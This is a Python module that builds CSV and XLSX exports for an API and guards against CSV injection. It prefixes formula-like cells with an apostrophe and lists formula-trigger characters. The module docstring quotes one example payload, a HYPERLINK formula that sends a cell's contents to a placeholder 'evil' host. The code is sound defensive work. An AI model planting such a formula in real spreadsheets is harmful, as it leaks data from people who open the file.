"""Every CSV or XLSX the API hands out is written here, with formulas neutralised.

A roster cell such as ``=HYPERLINK("http://evil/?"&A1,"click")`` is stored as the text it is
(issue 15): names, addresses and notes are people's data, and the import keeps them verbatim
but warns about them (api/roster/validate.py). The danger is on the way out: a spreadsheet
program opening an export would run the cell as a formula (CSV injection). So every export
(the roster template today, the statistics exports to come) goes through :func:`csv_bytes` or
:func:`xlsx_bytes`, which prefix a text cell that a spreadsheet would read as a formula with an
apostrophe (OWASP's recommendation), and XLSX cells are also typed as text.

Plain numbers (``-12.5``, ``+8613800000000``) are left alone: a spreadsheet reads them as
numbers, never as formulas.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Final

from openpyxl import Workbook

# What makes Excel, LibreOffice or WPS read a cell as a formula or a DDE call: the ASCII
# triggers, their full-width forms (a Chinese input method types those), and a leading tab or
# carriage return that some programs strip before they look.
FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER: Final = re.compile(r"[+-]?\d+(\.\d+)?")

Cell = str | int | float | None


def is_formula_like(value: str) -> bool:
    """Whether a spreadsheet would read this text as a formula."""
    return value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value)


def neutralise(value: Cell) -> Cell:
    """The cell as it may leave the system: formula-like text prefixed with an apostrophe."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """A CSV (UTF-8 with a BOM, so that Excel reads Chinese) of neutralised cells."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow(["" if cell is None else neutralise(cell) for cell in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[Cell]], *, title: str) -> bytes:
    """An XLSX workbook of one sheet; text cells neutralised and typed as text, never formulas."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = title[:31]
    for row in (header, *rows):
        sheet.append([neutralise(cell) for cell in row])
    for line in sheet.iter_rows():
        for cell in line:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl would store "=..." as a formula otherwise
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
